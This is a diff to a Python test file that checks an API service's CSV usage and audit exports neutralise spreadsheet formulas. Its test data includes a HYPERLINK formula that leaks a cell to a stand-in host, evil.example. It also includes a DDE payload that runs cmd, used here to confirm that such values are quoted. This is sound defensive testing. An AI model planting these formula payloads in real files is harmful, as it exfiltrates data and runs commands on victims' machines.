@@ -34,7 +34,9 @@ UNLIMITED = {"rpm_limit": 10**6, "tpm_limit": 10**9, "max_concurrency": 10**4,
              "monthly_token_budget": 10**12}
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
 # Through the chat API (the validation lets these through: no control characters).
-CHATTING = (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3", "ann")
+# The plain name is this run's own: the operator's export adds up every tenant's "ann".
+PLAIN = f"ann-{uuid.uuid4().hex[:8]}"
+CHATTING = (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3", PLAIN)
 # Only an older process could have stored these (tab and CR are refused now).
 STORED_DIRECTLY = ("\t=1+2", "\r=1+2")
 
@@ -96,7 +98,7 @@ async def test_usage_exports_quote_formula_cells_and_keep_numbers_numeric(
         for user in (*CHATTING[:-1], *STORED_DIRECTLY):
             assert "'" + user in rows, sorted(rows)  # shown as text, never run
             assert user not in rows
-        assert rows["ann"]["requests"] == "1"  # plain text as it was
+        assert rows[PLAIN]["requests"] == "1"  # plain text as it was
         assert rows["refund"]["cost_usd"].startswith("-0.5")  # a number, not quoted
         assert rows["'" + HYPERLINK]["requests"] == "1"
     # JSON is unchanged: the quote is for spreadsheets only.
@@ -112,7 +114,7 @@ async def test_the_audit_export_quotes_a_request_id_that_reads_as_a_formula(
     admin = bearer((await create_key(client, admin_headers, tenant["id"], ["admin"]))["key"])
     # A valid X-Request-Id that Excel reads as "= minus A1:B2".
     minted = await client.post("/v1/keys", headers={**admin, "X-Request-Id": "-A1:B2"},
-                               json={"name": "ci", "scopes": ["chat"]})
+                               json={"name": "ci", "scopes": ["admin"]})
     assert minted.status_code == 201, minted.text
     resp = await client.get("/v1/audit", headers=admin, params={"format": "csv"})
     rows = list(csv.DictReader(io.StringIO(resp.text, newline="")))
